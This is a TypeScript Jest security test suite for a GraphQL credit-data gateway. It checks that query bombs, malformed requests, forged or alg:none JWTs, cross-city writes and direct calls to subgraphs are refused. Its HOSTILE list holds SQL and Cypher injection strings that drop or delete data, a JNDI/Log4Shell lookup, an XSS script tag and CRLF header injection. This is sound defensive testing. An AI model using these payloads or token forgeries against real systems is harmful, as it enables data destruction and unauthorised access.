// Long: one suite of attack tables (depth, aliases, bodies, strings, tokens, scopes), each case a row sharing one hub.
import { describe, it, expect, beforeAll, afterAll, afterEach } from "@jest/globals";
import { recognize } from "../subgraphs/lists/domain/recognition.js";
import { loadRules } from "../subgraphs/lists/rules/index.js";
import { historyKeyFrom } from "../subgraphs/lists/domain/history.js";
import { SignJWT } from "jose";
import * as fc from "fast-check";
import { startTestHub, postGraphQL, tokenFor, STORES, TEST_JWT_SECRET, type GraphQLResponse, type TestHub } from "./support.js";
import { requireServices } from "./services.js";

await requireServices("postgres");
import { HUB_TOKEN_NAME } from "../lib/auth/partnerToken.js";

/**
 * What an attacker throws at the gateway. One hub per store (PostgreSQL, embedded) with
 * tight limits; after every case the hub must still answer and no table's contents may
 * have changed.
 */

const LIMITS = {
  // The schema's deepest natural path has 7 levels (enterprises > edges > node >
  // legalRepresentative > professionalQualifications > issuingCity > code), so 6 is
  // the tightest limit every legitimate query below still passes.
  HUB_MAX_DEPTH: "6",
  HUB_MAX_COST: "5000",
  HUB_DEFAULT_LIST_SIZE: "10",
  HUB_RATE_BURST: "5",
  HUB_RATE_PER_SECOND: "1",
  HUB_MAX_BODY_BYTES: "32768",
  HUB_MAX_BATCH: "3",
};

/** A raw resident ID number (18 characters, not part of a longer code). */
const RAW_ID = /(?<![0-9A-Z])\d{17}[\dX](?![0-9A-Z])/;
/** Valid (GB 11643) but held by no city of the hub. */
const UNKNOWN_ID = "360426199101010071";
/** Words of a response that would betray internals (SQL errors, stack traces). */
const LEAK = /prisma|invocation|stacktrace|node_modules|\.ts:\d+/i;

// Response shapes vary per case; the assertions say what each must hold.
type Json = Record<string, any>;
interface Who { city?: string; scopes?: string[]; sub?: string }

let hub: TestHub;
let baseline: Awaited<ReturnType<typeof snapshot>>;
let person: { idNumber: string; cityCode: string };
let usccWithRep: string;
let yulinEntry: number;

// Every request acts as a fresh partner system (`sub`): the limiter's buckets are
// per city+sub, so only the rate-limit case below ever meets the burst of 5.
let seq = 0;
const freshSub = () => `hostile-${++seq}`;

function ask(query: string, variables?: Json, who: Who = {}, headers: Record<string, string> = {}): Promise<GraphQLResponse<Json>> {
  return hub.query<Json>(query, variables, { as: { sub: freshSub(), ...who }, headers });
}

interface Raw { status: number; headers: Headers; text: string; body: GraphQLResponse<Json> }

/** One HTTP request as an attacker would craft it; `token: null` sends none. */
async function send(init: { method?: string; contentType?: string; body?: string; search?: string; token?: string | null; headers?: Record<string, string>; url?: string }): Promise<Raw> {
  const headers: Record<string, string> = { ...init.headers };
  if (init.contentType) headers["content-type"] = init.contentType;
  const token = init.token === undefined ? await tokenFor({ sub: freshSub() }) : init.token;
  if (token !== null) headers.authorization = `Bearer ${token}`;
  const res = await fetch((init.url ?? hub.url) + (init.search ?? ""), { method: init.method ?? "POST", headers, body: init.body });
  const text = await res.text();
  let body: GraphQLResponse<Json>;
  try {
    body = { status: res.status, ...(JSON.parse(text) as object) };
  } catch {
    body = { status: res.status };
  }
  return { status: res.status, headers: res.headers, text, body };
}

const codeOf = (r: GraphQLResponse<unknown>) => r.errors?.[0]?.extensions?.code;

/** Tables hostile requests may legitimately add to: look-ups are registered (checked per case) and sealed. */
const APPEND_ONLY_LOGS = new Set(["audit.query_registration", "audit.seal"]);

/**
 * The contents of every table the hub writes, one checksum per table (the rows as text, in
 * order), read from the catalogue so a table added later is covered without a change here.
 */
async function snapshot(): Promise<Record<string, string>> {
  const db = hub.store.jobs;
  const tables = await db.$queryRawUnsafe<Array<{ name: string }>>(
    `SELECT table_schema || '.' || table_name AS name FROM information_schema.tables
     WHERE table_type = 'BASE TABLE' AND table_schema NOT IN ('pg_catalog', 'information_schema', 'public') ORDER BY 1`);
  const sums: Record<string, string> = {};
  for (const { name } of tables) {
    if (APPEND_ONLY_LOGS.has(name) || !/^[a-z_]+\.[a-z_]+$/.test(name)) continue;
    const [row] = await db.$queryRawUnsafe<Array<{ sum: string }>>(`SELECT md5(coalesce(string_agg(t::text, '|' ORDER BY t::text), '')) AS sum FROM ${name} t`);
    sums[name] = row.sum;
  }
  return sums;
}

/** Runs `fn` and asserts the hub sent no SQL meanwhile: the request was refused before execution. */
async function withoutSql<T>(fn: () => Promise<T>): Promise<T> {
  const before = hub.store.statements.count;
  const result = await fn();
  expect(hub.store.statements.count - before).toBe(0);
  return result;
}

/** A coded refusal: the status, the code, no data. */
function expectRefused(r: GraphQLResponse<unknown>, status: number, code: string): void {
  expect({ status: r.status, code: codeOf(r) }).toEqual({ status, code });
  expect(r.data ?? null).toBeNull();
  expect(JSON.stringify(r.errors)).not.toMatch(LEAK);
}

/**
 * What a hostile string may get: an answer (200, no error), or a refusal of the input as
 * BAD_USER_INPUT (200 from a subgraph's check, 400 from the gateway's edge); never anything
 * else, and nothing of the internals in the text.
 */
function expectAnsweredOrBadInput(r: GraphQLResponse<unknown>, label: string): void {
  const codes = [...new Set((r.errors ?? []).map((e) => e.extensions?.code ?? "(no code)"))];
  const outcome = codes.length === 0 ? `${r.status}` : `${r.status} ${codes.join(",")}`;
  expect({ label, outcome }).toEqual({ label, outcome: expect.stringMatching(/^(200|200 BAD_USER_INPUT|400 BAD_USER_INPUT)$/) });
  expect(JSON.stringify(r)).not.toMatch(LEAK);
}

const b64 = (s: string) => Buffer.from(s, "utf8").toString("base64url");

describe.each(STORES)("hostile requests on the %s store", (kind) => {
  beforeAll(async () => {
    hub = await startTestHub(kind, 10, 3, LIMITS);
    const e = await hub.store.prisma.enterprise.findFirstOrThrow({ where: { legalRepresentativeId: { not: null } }, orderBy: { uscc: "asc" } });
    usccWithRep = e.uscc;
    person = await hub.store.prisma.individual.findUniqueOrThrow({ where: { idNumber: e.legalRepresentativeId! } });
    expect(await hub.store.prisma.individual.findUnique({ where: { idNumber: UNKNOWN_ID } })).toBeNull();
    // One entry of 榆林's, for the cross-city write case, made before the baseline is taken.
    yulinEntry = (await recognize(hub.store.prisma, loadRules(), { sub: "yulin", city: "610800", historyKey: historyKeyFrom(hub.ledgerKey) }, {
      subject: usccWithRep, listType: "SERIOUS_DISHONESTY", field: "税务", authority: "榆林市税务局", severity: "SERIOUS",
      basis: { type: "ADMINISTRATIVE_PENALTY", referenceNumber: "HOSTILE-1", decidedOn: "2026-06-01" }, responsiblePersons: [],
    })).id;
    // The background work the demo data and that entry set off (the risk engine, the relays) ends first.
    await hub.settle();
    baseline = await snapshot();
  }, 120_000);

  afterAll(async () => {
    await hub?.stop();
  });

  afterEach(async () => {
    // The process is up and the subgraphs answer through the gateway ...
    const r = await ask(`{ cities { code } enterprises(first: 1) { edges { node { name } } } enterprise(uscc: "${usccWithRep}") { legalRepresentative { city { code } } } }`);
    expect(r.errors).toBeUndefined();
    expect(r.data!.cities).toHaveLength(6);
    expect(r.data!.enterprises.edges).toHaveLength(1);
    expect(r.data!.enterprise.legalRepresentative.city.code).toBe(person.cityCode);
    // ... and no record changed.
    expect(await snapshot()).toEqual(baseline);
  });

  describe("operations too large to run", () => {
    const DEEP = "{ enterprises(first: 1) { edges { node { legalRepresentative { professionalQualifications { issuingCity { code } } } } } } }";
    it.each([
      ["plain nesting", DEEP],
      ["nesting spread over named fragments", `{ enterprises(first: 1) { ...C } }
        fragment C on EnterpriseConnection { edges { ...E } } fragment E on EnterpriseEdge { node { ...N } }
        fragment N on Enterprise { legalRepresentative { ...I } } fragment I on Individual { professionalQualifications { issuingCity { ...Y } } }
        fragment Y on City { code }`],
      ["nesting in inline fragments under aliases", `{ a: enterprises(first: 1) { ... on EnterpriseConnection { b: edges { ... { c: node { d: legalRepresentative { ... on Individual { e: professionalQualifications { f: issuingCity { g: code } } } } } } } } } }`],
    ])("refuses a query deeper than HUB_MAX_DEPTH (%s) with QUERY_TOO_COMPLEX, before execution", async (_label, query) => {
      const r = await withoutSql(() => ask(query));
      expectRefused(r, 400, "QUERY_TOO_COMPLEX");
      expect(r.errors![0].message).toMatch(/depth 7 exceeds the limit 6/);
      expect(r.errors![0].extensions).toMatchObject({ depth: 7, maxDepth: 6, maxCost: 5000 });
    });

    it("refuses an alias bomb (300 × enterprises(first: 100)) and a fragment bomb by cost, quickly", async () => {
      const aliases = Array.from({ length: 300 }, (_, i) => `a${i}:enterprises(first:100){edges{cursor}}`).join(" ");
      let bomb = "fragment F0 on Query { enterprises(first: 100) { edges { cursor } } }";
      for (let i = 1; i <= 40; i++) bomb += ` fragment F${i} on Query { ...F${i - 1} ...F${i - 1} }`;
      for (const [query, cost] of [[`{ ${aliases} }`, "60300"], [`{ ...F40 } ${bomb}`, String(201 * 2 ** 40)]]) {
        const started = Date.now();
        const r = await withoutSql(() => ask(query));
        expect(Date.now() - started).toBeLessThan(5000); // linear analysis: an exponential walk would not end
        expectRefused(r, 400, "QUERY_TOO_COMPLEX");
        expect(r.errors![0].message).toContain(`cost ${cost} exceeds the limit 5000`);
      }
    });

    it.each([
      // Over the cost limit however it is sent: refused by the gateway before any subgraph is asked.
      ["first: 2147483647 (literal)", "{ enterprises(first: 2147483647) { edges { cursor } } }", undefined, 400, "QUERY_TOO_COMPLEX"],
      ["first: 2147483647 (variable)", "query($n: Int) { enterprises(first: $n) { edges { cursor } } }", { n: 2147483647 }, 400, "QUERY_TOO_COMPLEX"],
      // Not a GraphQL Int at all.
      ["first: 2147483648 (literal)", "{ enterprises(first: 2147483648) { edges { cursor } } }", undefined, 400, "GRAPHQL_VALIDATION_FAILED"],
      // Cheap enough to pass the cost check (2001 ≤ 5000): the enterprise subgraph's page cap answers.
      ["first: 1000", "{ enterprises(first: 1000) { edges { cursor } } }", undefined, 200, "BAD_USER_INPUT"],
      ["first: -1", "{ enterprises(first: -1) { edges { cursor } } }", undefined, 200, "BAD_USER_INPUT"],
    ])("answers %s with a coded error and no rows", async (_label, query, variables, status, code) => {
      const r = await ask(query, variables);
      expectRefused(r, status, code);
      if (code === "QUERY_TOO_COMPLEX") expect(r.errors![0].message).toMatch(/cost \d+ exceeds the limit 5000/);
      if (code === "BAD_USER_INPUT") expect(r.errors![0].message).toContain("between 1 and 100");
    });

    it.each([
      ["a two-fragment cycle", "{ enterprises { edges { node { ...A } } } } fragment A on Enterprise { name ...B } fragment B on Enterprise { uscc ...A }"],
      ["a fragment spreading itself", "{ enterprise(uscc: \"91110000600037341L\") { ...A } } fragment A on Enterprise { name ...A }"],
    ])("refuses %s as GRAPHQL_VALIDATION_FAILED, fast", async (_label, query) => {
      const started = Date.now();
      const r = await withoutSql(() => ask(query));
      expect(Date.now() - started).toBeLessThan(3000);
      expectRefused(r, 400, "GRAPHQL_VALIDATION_FAILED");
      expect(r.errors![0].message).toContain("within itself");
    });
  });

  describe("malformed HTTP requests", () => {
    const ok = JSON.stringify({ query: "{ cities { code } }" });
    it.each([
      ["a body over HUB_MAX_BODY_BYTES", { contentType: "application/json", body: JSON.stringify({ query: "{ cities { code } }", variables: { pad: "x".repeat(40_000) } }) }, 413, "PAYLOAD_TOO_LARGE"],
      ["malformed JSON", { contentType: "application/json", body: "{\"query\": \"{ cities { code } }\"" }, 400, "BAD_REQUEST"],
      ["an empty body", { contentType: "application/json", body: "" }, 400, "BAD_REQUEST"],
      ["an empty JSON object", { contentType: "application/json", body: "{}" }, 400, "BAD_REQUEST"],
      ["text/plain", { contentType: "text/plain", body: ok }, 415, "UNSUPPORTED_MEDIA_TYPE"],
      ["multipart/form-data", { contentType: "multipart/form-data; boundary=x", body: `--x\r\nContent-Disposition: form-data; name="operations"\r\n\r\n${ok}\r\n--x--\r\n` }, 415, "UNSUPPORTED_MEDIA_TYPE"],
      ["application/x-www-form-urlencoded", { contentType: "application/x-www-form-urlencoded", body: `query=${encodeURIComponent("{ cities { code } }")}` }, 415, "UNSUPPORTED_MEDIA_TYPE"],
      ["a batch over HUB_MAX_BATCH", { contentType: "application/json", body: JSON.stringify(Array.from({ length: 4 }, () => ({ query: "{ cities { code } }" }))) }, 400, "BAD_REQUEST"],
      ["a batch of 1000 operations", { contentType: "application/json", body: JSON.stringify(Array.from({ length: 1000 }, () => ({ query: "{__typename}" }))) }, 400, "BAD_REQUEST"],
      // CSRF prevention: a GET without a preflight-forcing header is refused whatever it asks.
      ["a GET query without a preflight header", { method: "GET", search: `?query=${encodeURIComponent("{ cities { code } }")}` }, 400, "BAD_REQUEST"],
      ["a GET mutation without a preflight header", { method: "GET", search: `?query=${encodeURIComponent("mutation { __typename }")}` }, 400, "BAD_REQUEST"],
      ["a GET mutation with a preflight header", { method: "GET", search: `?query=${encodeURIComponent("mutation { __typename }")}`, headers: { "apollo-require-preflight": "true" } }, 405, "BAD_REQUEST"],
    ] as const)("refuses %s with a coded 4xx and runs nothing", async (_label, init, status, code) => {
      const r = await withoutSql(() => send(init));
      expectRefused(r.body, status, code);
    });

    it("still runs a batch within HUB_MAX_BATCH", async () => {
      const r = await send({ contentType: "application/json", body: JSON.stringify(Array.from({ length: 3 }, () => ({ query: "{ cities { code } }" }))) });
      expect(r.status).toBe(200);
      expect((JSON.parse(r.text) as Array<{ data: { cities: unknown[] } }>).map((x) => x.data.cities.length)).toEqual([6, 6, 6]);
    });
  });

  describe("injection-shaped strings in every string argument", () => {
    const HOSTILE = [
      "' OR 1=1 --",
      "'; DROP TABLE enterprise.enterprise; --",
      "\"; DROP TABLE enterprise.enterprise; --",
      "%' UNION SELECT id_number, name FROM individual.individual --",
      "1); SELECT pg_sleep(5); --",
      "MATCH (n) DETACH DELETE n",
      "') RETURN n UNION MATCH (m) RETURN m //",
      "\u0000",
      "煤业\u0000",
      "x".repeat(5000),
      "\u202Eمرحبا שלום\u202C",
      "🏭💣👨‍👩‍👧‍👦",
      "\ud800",
      "a\r\nX-Injected: 1",
      "${jndi:ldap://example.invalid/a}",
      "<script>alert(1)</script>",
      "9999999999999999999",
      "-1",
      "",
    ];

    interface Site { run(s: string): Promise<GraphQLResponse<Json>>; empty?(data: Json): boolean; after?(s: string, r: GraphQLResponse<Json>): Promise<void> }
    const page = "query($f: EnterpriseFilter, $a: String) { enterprises(filter: $f, after: $a, first: 5) { edges { node { name } } } }";
    const regs = "query($s: ID!, $a: String) { queryRegistrations(subject: $s, after: $a, first: 5) { edges { node { purpose } } } }";
    const noEdges = (d: Json) => d.enterprises?.edges?.length === 0;
    const auditor = () => ({ city: person.cityCode, scopes: ["audit:read"] });
    const SITES: Record<string, Site> = {
      "enterprise(uscc)": { run: (s) => ask("query($u: ID!) { enterprise(uscc: $u) { name } }", { u: s }), empty: (d) => d.enterprise === null },
      "filter.nameContains": { run: (s) => ask(page, { f: { nameContains: s } }), empty: noEdges },
      "filter.industryCode": { run: (s) => ask(page, { f: { industryCode: s } }), empty: noEdges },
      "filter.cityCode": { run: (s) => ask(page, { f: { cityCode: s } }), empty: noEdges },
      "enterprises(after), raw": { run: (s) => ask(page, { a: s }) },
      "enterprises(after), base64url": { run: (s) => ask(page, { a: b64(s) }) },
      "individual(idNumber)": { run: (s) => ask("query($i: ID!) { individual(idNumber: $i, purpose: \"贷款审批\") { name } }", { i: s }), empty: (d) => d.individual === null },
      "individual(purpose)": {
        run: (s) => ask("query($p: String!) { individual(idNumber: \"" + UNKNOWN_ID + "\", purpose: $p) { name } }", { p: s }),
        empty: (d) => d.individual === null,
        // A purpose that was accepted is registered verbatim: the text went in as a parameter, not as SQL.
        async after(s, r) {
          if (r.errors) return;
          const last = await hub.store.prisma.queryRegistration.findFirstOrThrow({ where: { subjectId: UNKNOWN_ID }, orderBy: { id: "desc" } });
          expect(last.purpose).toBe(s.trim());
        },
      },
      "queryRegistrations(subject)": { run: (s) => ask(regs, { s }, auditor()), empty: (d) => d.queryRegistrations?.edges?.length === 0 },
      "queryRegistrations(after), raw": { run: (s) => ask(regs, { s: person.idNumber, a: s }, auditor()) },
      "queryRegistrations(after), base64url": { run: (s) => ask(regs, { s: person.idNumber, a: b64(s) }, auditor()) },
      "X-Hub-Purpose header": {
        run: (s) => {
          let header: string;
          try {
            header = encodeURIComponent(s);
          } catch {
            header = "%ED%A0%80"; // a lone surrogate cannot be encoded: send the invalid UTF-8 it would be
          }
          return ask(`{ enterprise(uscc: "${usccWithRep}") { name legalRepresentative { name } } }`, undefined, { scopes: ["credit:read", "personal:read"] }, { "x-hub-purpose": header });
        },
        async after(s, r) {
          if (r.errors) return;
          const last = await hub.store.prisma.queryRegistration.findFirstOrThrow({ where: { subjectId: person.idNumber, unmasked: true }, orderBy: { id: "desc" } });
          expect(last.purpose).toBe(s.trim());
        },
      },
    };

    it.each(Object.keys(SITES))("%s: an answer (empty where it must be) or BAD_USER_INPUT, never anything else", async (site) => {
      const { run, empty, after } = SITES[site];
      // Every string is tried before the verdict, which lists all that were mishandled.
      const mishandled: string[] = [];
      for (const s of HOSTILE) {
        const label = JSON.stringify(s.length > 40 ? `${s.slice(0, 20)}…(${s.length} chars)` : s);
        const r = await run(s);
        try {
          expectAnsweredOrBadInput(r, label);
          if (!r.errors && empty) expect({ label, empty: empty(r.data!) }).toEqual({ label, empty: true });
          await after?.(s, r);
        } catch {
          mishandled.push(`${label} → ${r.status} ${JSON.stringify(r.errors?.map((e) => e.extensions?.code) ?? r.data)}`);
        }
      }
      expect(mishandled).toEqual([]);
    });

    it("answers ~50 random nameContains strings (or refuses them as BAD_USER_INPUT), matching only names that contain them", async () => {
      const text = fc.oneof(
        fc.string({ unit: "binary", maxLength: 60 }),
        fc.string({ unit: "grapheme", maxLength: 20 }),
        fc.string({ unit: fc.constantFrom("%", "_", "\\", "'", "\"", ";", "--", " ", "煤", "业", "有限", "公司", "/*", "*/"), maxLength: 12 }),
      );
      await fc.assert(
        fc.asyncProperty(text, async (s) => {
          const r = await ask(page, { f: { nameContains: s } });
          expectAnsweredOrBadInput(r, `nameContains ← ${JSON.stringify(s)}`);
          for (const e of r.data?.enterprises?.edges ?? []) expect(e.node.name).toContain(s.trim());
        }),
        { numRuns: 50 },
      );
    });
  });

  describe("tokens", () => {
    const key = (secret: string) => new TextEncoder().encode(secret);
    const claims = { city: "610800", scopes: ["credit:read", "personal:read", "admin"] };
    const now = () => Math.floor(Date.now() / 1000);
    const signed = (payload: Json, opts: { secret?: string; alg?: string; exp?: number | null; sub?: string | null; iss?: string; aud?: string } = {}) => {
      // Issued by and for the hub, as its own tokens are: each case breaks one thing only.
      let jwt = new SignJWT(payload).setProtectedHeader({ alg: opts.alg ?? "HS256", typ: "JWT" }).setIssuedAt().setIssuer(opts.iss ?? HUB_TOKEN_NAME).setAudience(opts.aud ?? HUB_TOKEN_NAME);
      if (opts.sub !== null) jwt = jwt.setSubject(opts.sub ?? freshSub());
      if (opts.exp !== null) jwt = jwt.setExpirationTime(opts.exp ?? now() + 600);
      return jwt.sign(key(opts.secret ?? TEST_JWT_SECRET));
    };
    const part = (o: object) => Buffer.from(JSON.stringify(o)).toString("base64url");
    const QUERY = "{ enterprises(first: 3) { edges { node { name legalRepresentative { idNumber } } } } }";

    it.each<[string, () => Promise<string | null>, string]>([
      ["no Authorization header", async () => null, "no token"],
      ["a Basic credential", async () => "Basic dXNlcjpwYXNzd29yZA==", "must be 'Bearer <token>'"],
      ["a garbage token", async () => "Bearer not-a-jwt", "not a well-formed JWT"],
      ["a token signed with a wrong secret", async () => `Bearer ${await signed(claims, { secret: "wrong-secret-wrong-secret-wrong-secret!" })}`, "signature does not verify"],
      ["an expired token", async () => `Bearer ${await signed(claims, { exp: now() - 60 })}`, "expired"],
      ["an alg:none token", async () => `Bearer ${part({ alg: "none", typ: "JWT" })}.${part({ ...claims, sub: "forger", exp: now() + 600 })}.`, "invalid token"],
      ["an HS512 token (algorithm not accepted)", async () => `Bearer ${await signed(claims, { alg: "HS512" })}`, "signing algorithm not accepted"],
      ["a token without exp", async () => `Bearer ${await signed(claims, { exp: null })}`, "claim 'exp'"],
      ["a token without sub", async () => `Bearer ${await signed(claims, { sub: null })}`, "claim 'sub'"],
      ["a token for a city that is not a partner", async () => `Bearer ${await signed({ ...claims, city: "110000" })}`, "not a partner city"],
      ["a token for another audience", async () => `Bearer ${await signed(claims, { aud: "another-api" })}`, "claim 'aud'"],
      ["a token from another issuer", async () => `Bearer ${await signed(claims, { iss: "another-platform" })}`, "claim 'iss'"],
      ["a genuine token with its scopes rewritten", async () => {
        const [h, , s] = (await tokenFor({ sub: freshSub() })).split(".");
        return `Bearer ${h}.${part({ ...claims, sub: "escalated", exp: now() + 600 })}.${s}`;
      }, "signature does not verify"],
    ])("refuses %s with 401 UNAUTHENTICATED and a reason", async (_label, header, reason) => {
      const authorization = await header();
      const r = await withoutSql(() => postGraphQL<Json>(hub.url, QUERY, undefined, authorization ? { authorization } : {}));
      expectRefused(r, 401, "UNAUTHENTICATED");
      expect(r.errors![0].message).toContain(reason);
    });

    it.each([[[]], [["graph:read"]], [["CREDIT:READ", "credit:*"]]])("answers a token with scopes %j FORBIDDEN naming credit:read", async (scopes) => {
      for (const query of [QUERY, `{ enterprise(uscc: "${usccWithRep}") { name } }`, `{ individual(idNumber: "${person.idNumber}", purpose: "贷款审批") { name } }`]) {
        const r = await ask(query, undefined, { scopes });
        expect({ status: r.status, code: codeOf(r) }).toEqual({ status: 200, code: "FORBIDDEN" });
        expect(r.errors![0].message).toContain("credit:read");
        expect(Object.values(r.data ?? {}).every((v) => v === null)).toBe(true);
      }
    });
  });

  describe("personal data without personal:read", () => {
    it("never shows a raw ID number, with or without X-Hub-Purpose, however the fields are asked for", async () => {
      const raw = (await hub.store.prisma.individual.findMany({ select: { idNumber: true } })).map((i) => i.idNumber);
      const queries = [
        "{ enterprises(first: 100) { edges { node { name legalRepresentativeName legalRepresentative { idNumber name city { code } professionalQualifications { title issuedBy } } } } } }",
        "{ enterprises(first: 100) { edges { node { r: legalRepresentative { ...P ... on Individual { i2: idNumber } } } } } } fragment P on Individual { i: idNumber n: name }",
        ...raw.slice(0, 3).map((id) => `{ individual(idNumber: "${id}", purpose: "贷款审批") { idNumber a: idNumber name city { code } } }`),
      ];
      for (const query of queries) {
        for (const headers of [{}, { "x-hub-purpose": encodeURIComponent("贷款审批") }] as Array<Record<string, string>>) {
          for (const scopes of [["credit:read"], ["credit:read", "audit:read", "graph:read"]]) {
            const r = await ask(query, undefined, { scopes }, headers);
            expect({ status: r.status, errors: r.errors }).toEqual({ status: 200, errors: undefined });
            const text = JSON.stringify(r);
            expect(text).not.toMatch(RAW_ID);
            for (const id of raw) expect(text).not.toContain(id);
          }
        }
      }
    });
  });

  describe("rate limit", () => {
    it("answers the 6th rapid request of one partner 429 RATE_LIMITED with Retry-After; another partner is unaffected", async () => {
      const token = await tokenFor({ sub: "rate-limit-probe" });
      const one = () => send({ contentType: "application/json", body: JSON.stringify({ query: "{ cities { code } }" }), token });
      // Six at once (so no refill can happen in between, however loaded the machine): five pass, one is refused.
      const six = await Promise.all(Array.from({ length: 6 }, one));
      expect(six.map((r) => r.status).sort()).toEqual([200, 200, 200, 200, 200, 429]);
      const sixth = six.find((r) => r.status === 429)!;
      expectRefused(sixth.body, 429, "RATE_LIMITED");
      expect(Number(sixth.headers.get("retry-after"))).toBeGreaterThanOrEqual(1);
      expect(sixth.body.errors![0].extensions).toMatchObject({ retryAfterSeconds: expect.any(Number) });
      const other = await send({ contentType: "application/json", body: JSON.stringify({ query: "{ cities { code } }" }), token: await tokenFor({ sub: "another-partner" }) });
      expect(other.status).toBe(200);
      // The same sub in another city is another calling system, with its own bucket.
      const otherCity = await send({ contentType: "application/json", body: JSON.stringify({ query: "{ cities { code } }" }), token: await tokenFor({ sub: "rate-limit-probe", city: "620100" }) });
      expect(otherCity.status).toBe(200);
    });
  });

  describe("writes", () => {
    it.each([
      "mutation Wipe { deleteEnterprise(uscc: \"91110000600037341L\") { uscc } }",
      "mutation { dropAllEnterprises }",
      "subscription { enterpriseWiped { uscc } }",
    ])("refuses %s (no such operation) as a validation error, before execution", async (query) => {
      const r = await withoutSql(() => ask(query, undefined, { scopes: ["credit:read", "lists:write", "admin"] }));
      expectRefused(r, 400, "GRAPHQL_VALIDATION_FAILED");
    });

    it("refuses a lists mutation to a token without lists:write, naming the scope", async () => {
      const r = await ask("mutation { transitionListEntry(id: \"1\", to: REVOKED, reason: \"hostile\") { id state } }", undefined, { scopes: ["credit:read", "personal:read", "audit:read"] });
      expect({ status: r.status, code: codeOf(r) }).toEqual({ status: 200, code: "FORBIDDEN" });
      expect(r.errors![0].message).toContain("lists:write");
      expect(r.data ?? null).toBeNull();
    });

    it.each([
      ["move", `mutation { transitionListEntry(id: "ID", to: REVOKED, reason: "hostile takeover") { id state } }`],
      ["interview", `mutation { recordInterview(entryId: "ID", interviewedOn: "2026-11-20", interviewee: "法定代表人", notes: "hostile") { id } }`],
    ])("refuses a token from 银川 writing 榆林's entry (%s), changing nothing", async (_label, template) => {
      const before = await hub.store.prisma.listEntry.findUniqueOrThrow({ where: { id: yulinEntry } });
      const r = await ask(template.replace("ID", String(yulinEntry)), undefined, { city: "640100", scopes: ["credit:read", "lists:write"] });
      expect({ status: r.status, code: codeOf(r) }).toEqual({ status: 200, code: "FORBIDDEN" });
      expect(r.errors![0].message).toContain("610800");
      expect(await hub.store.prisma.listEntry.findUniqueOrThrow({ where: { id: yulinEntry } })).toEqual(before);
      expect(await hub.store.prisma.interview.count({ where: { entryId: yulinEntry } })).toBe(0);
    });
  });

  describe("subgraphs reached directly", () => {
    const identity = (secret: string) =>
      new SignJWT({ city: person.cityCode, scopes: ["credit:read", "personal:read", "audit:read", "lists:write", "admin"], purpose: "forged", rid: "forged" })
        .setProtectedHeader({ alg: "HS256" }).setSubject("forger").setAudience("hub-subgraphs").setIssuedAt().setExpirationTime("2m")
        .sign(new TextEncoder().encode(secret));
    const forgeries: Array<[string, () => Promise<Record<string, string>>]> = [
      ["no identity header", async () => ({})],
      ["an identity signed with a wrong secret", async () => ({ "x-hub-identity": await identity("wrong-gateway-secret-0123456789abcdef") })],
      ["an identity signed with the partner-token secret", async () => ({ "x-hub-identity": await identity(TEST_JWT_SECRET) })],
      ["a partner token as identity", async () => ({ "x-hub-identity": await tokenFor({ scopes: ["credit:read", "personal:read"] }) })],
      ["an alg:none identity", async () => ({ "x-hub-identity": `${Buffer.from('{"alg":"none"}').toString("base64url")}.${Buffer.from(JSON.stringify({ sub: "x", aud: "hub-subgraphs", city: "610800", scopes: ["admin"], exp: 4102444800 })).toString("base64url")}.` })],
    ];
    it.each(forgeries)("answers 401 UNAUTHENTICATED and no data with %s", async (_label, headersOf) => {
      const headers = await headersOf();
      const registrations = await hub.store.prisma.queryRegistration.count();
      for (const [name, query] of [
        ["enterprise", "{ enterprises(first: 5) { edges { node { name legalRepresentative { ref } } } } }"],
        ["enterprise", `{ _entities(representations: [{ __typename: "Enterprise", uscc: "${usccWithRep}" }]) { ... on Enterprise { name } } }`],
        ["individual", `{ individual(idNumber: "${person.idNumber}", purpose: "贷款审批") { idNumber name } }`],
        ["individual", `{ _entities(representations: [{ __typename: "Individual", idNumber: "${person.idNumber}" }]) { ... on Individual { idNumber name } } }`],
        ["lists", "{ listEntries(first: 5) { edges { node { id state } } } }"],
        ["lists", "mutation { transitionListEntry(id: \"1\", to: REVOKED, reason: \"forged\") { id } }"],
      ] as const) {
        const r = await withoutSql(() => postGraphQL<Json>(hub.subgraphs[name].url, query, undefined, headers));
        expectRefused(r, 401, "UNAUTHENTICATED");
        expect(JSON.stringify(r)).not.toContain(person.idNumber);
      }
      expect(await hub.store.prisma.queryRegistration.count()).toBe(registrations);
    });
  });

  describe("the statement counter itself", () => {
    // Every "runs nothing" case relies on it: a look-up that must read the store shows it counting.
    it("counts the statements a request sends", async () => {
      const before = hub.store.statements.count;
      const r = await ask(`{ enterprise(uscc: "${usccWithRep}") { name administrativeLicenses { decisionNumber } } }`);
      expect({ status: r.status, errors: r.errors }).toEqual({ status: 200, errors: undefined });
      expect(hub.store.statements.count - before).toBeGreaterThan(0);
    });
  });
});
